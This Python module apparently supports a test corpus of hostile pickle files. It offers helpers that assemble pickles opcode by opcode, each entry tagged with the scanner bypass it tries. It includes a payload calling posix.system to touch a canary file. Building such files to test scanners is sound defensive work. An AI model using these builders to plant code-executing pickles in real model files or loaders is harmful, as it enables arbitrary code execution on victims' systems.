"""Pickles put together opcode by opcode: what no pickler would write."""

from __future__ import annotations

import shlex
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from hostile.corpus import Hostile


class Code(bytes):
    """Opcodes that leave one value on the stack."""


def text(value: str) -> Code:
    """A str of any length."""
    data = value.encode("utf-8", "surrogatepass")
    return Code(b"X" + struct.pack("<I", len(data)) + data)


def name(module: str, attribute: str) -> Code:
    """``module.attribute`` by STACK_GLOBAL: dots in the attribute are followed, from protocol 4 on."""
    return Code(text(module) + text(attribute) + b"\x93")


def old_name(module: str, attribute: str) -> Code:
    """``module.attribute`` by GLOBAL."""
    return Code(f"c{module}\n{attribute}\n".encode())


def value(one: Any) -> Code:
    """A plain value; Code stays as it is."""
    if isinstance(one, Code):
        return one
    return Code(_WRITERS[type(one)](one))


def _integer(one: int) -> bytes:
    data = one.to_bytes(one.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


_WRITERS: dict[type, Callable[[Any], bytes]] = {
    type(None): lambda _: b"N",
    bool: lambda one: b"\x88" if one else b"\x89",
    int: _integer,
    float: lambda one: b"G" + struct.pack(">d", one),
    str: text,
    bytes: lambda one: b"B" + struct.pack("<I", len(one)) + one,
    tuple: lambda one: b"(" + b"".join(map(value, one)) + b"t",
    list: lambda one: b"(" + b"".join(map(value, one)) + b"l",
    dict: lambda one: b"(" + b"".join(value(key) + value(item) for key, item in one.items()) + b"d",
}


def call(target: Code, *arguments: Any) -> Code:
    """``target(*arguments)`` by REDUCE."""
    return Code(target + value(arguments) + b"R")


def built(target: Code, *arguments: Any) -> Code:
    """``target.__new__(target, *arguments)`` by NEWOBJ."""
    return Code(target + value(arguments) + b"\x81")


def with_state(made: Code, state: Any) -> Code:
    """``made`` with its state set by BUILD."""
    return Code(made + value(state) + b"b")


def then(first: Code, second: Code) -> Code:
    """``first`` for what it does, ``second`` for what it is."""
    return Code(first + b"0" + second)


def pickled(root: Any, protocol: int = 4) -> bytes:
    """The whole pickle."""
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + value(root) + b"."


def touch(canary: Path) -> str:
    """The shell command that creates the canary."""
    return f"touch {shlex.quote(str(canary))}"


def statement(canary: Path) -> str:
    """The Python statement (and expression) that creates the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def system(canary: Path) -> Code:
    """``posix.system("touch ...")``, the plainest payload."""
    return call(name("posix", "system"), touch(canary))


Content = Callable[[Path], bytes]
"""Gives the bytes of the file, for a canary."""


def a_file(file: str, content: Content) -> Callable[[Path, Path], Path]:
    """The ``write`` of an entry that is one file."""

    def write(folder: Path, canary: Path) -> Path:
        path = folder / file
        path.write_bytes(content(canary))
        return path

    return write


def a_pickle(file: str, root: Callable[[Path], Any], protocol: int = 4) -> Callable[[Path, Path], Path]:
    """The ``write`` of an entry that is one pickle."""
    return a_file(file, lambda canary: pickled(root(canary), protocol))


def hostile_pickle(title: str, bypass: str, root: Callable[[Path], Any], *says: str, **more: Any) -> Hostile:
    """An entry that is one pickle."""
    protocol = more.pop("protocol", 4)
    return Hostile(f"pickle/{title}", bypass, a_pickle("model.pkl", root, protocol), says, **more)
